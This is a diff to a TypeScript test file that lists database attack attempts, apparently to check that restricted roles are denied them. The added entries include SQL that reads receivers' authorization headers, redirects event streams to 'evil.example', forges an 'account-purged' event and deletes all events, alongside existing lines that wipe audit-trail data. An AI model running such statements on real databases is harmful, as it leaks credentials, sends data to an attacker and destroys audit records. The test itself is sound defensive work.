@@ -82,6 +82,18 @@ const ATTEMPTS: readonly (readonly [string, string, readonly DatabaseProcess[]])
   ['forget deletions of users', 'DELETE FROM deleted_identities', ['token', 'console', 'operator']],
   ['read the index of the audit trail', 'SELECT filter FROM audit_chunks', ['console', 'operator']],
   ['remove events from the index of the audit trail', 'DELETE FROM audit_chunks', ['console']],
+  ['read the header of a receiver', 'SELECT authorization_header FROM event_streams', ['token']],
+  [
+    'send events to another receiver',
+    `UPDATE event_streams SET endpoint_url = 'https://evil.example/'`,
+    ['token', 'console', 'operator'],
+  ],
+  [
+    'invent an event about a user',
+    `INSERT INTO events (stream_id, type, user_id, txn) SELECT id, 'account-purged', 1, id FROM event_streams`,
+    ['token'],
+  ],
+  ['delete events', 'DELETE FROM events', ['token']],
   ['read usage figures', 'SELECT live_grants FROM usage_days', ['console']],
   ['pretend that a migration was applied', `INSERT INTO migrations (timestamp, name) VALUES (1, 'x')`, []],
   ['add a column', 'ALTER TABLE clients ADD COLUMN more text', []],
